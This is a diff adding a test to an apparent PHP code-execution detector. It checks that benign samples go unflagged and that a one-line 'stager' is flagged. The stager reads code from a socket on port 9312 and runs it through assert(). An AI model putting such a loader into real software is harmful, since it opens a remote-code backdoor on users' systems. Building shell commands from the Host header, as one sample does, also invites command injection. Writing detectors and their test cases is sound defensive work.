@@ -118,3 +118,15 @@ def test_a_commented_out_call_and_an_exec_output_argument_carry_nothing():
     # exec()'s second argument receives the output: a request value there runs nothing; nor does a comment.
     code = "<?php $out = $_GET['o'];\n// eval($out);\n/* system($out); */\nexec('uptime', $out, $rc);"
     assert "input_interpolated_into_code" not in signals(code)
+
+
+def test_an_assert_of_a_condition_and_a_command_built_from_the_host_name_are_not_input_run():
+    # A socket client asserting a length it read, and a tool building its own URL from the Host header.
+    client = "<?php $s = fsockopen($host, 9312); $len = fread($s, 4); $max = $len - 8; assert($max >= 0);"
+    tool = ("<?php $url = 'http://' . $_SERVER['HTTP_HOST'] . '/docs/';\n"
+            "$cmd = 'apigen --base-url ' . $url; exec($cmd, $out);")
+    assert "input_interpolated_into_code" not in signals(client)
+    assert "input_interpolated_into_code" not in signals(tool)
+    # A string handed to assert is run as code: the same read, asserted as a string, is.
+    stager = "<?php $s = fsockopen($host, 9312); $code = fread($s, 4096); assert($code);"
+    assert "input_interpolated_into_code" in signals(stager)
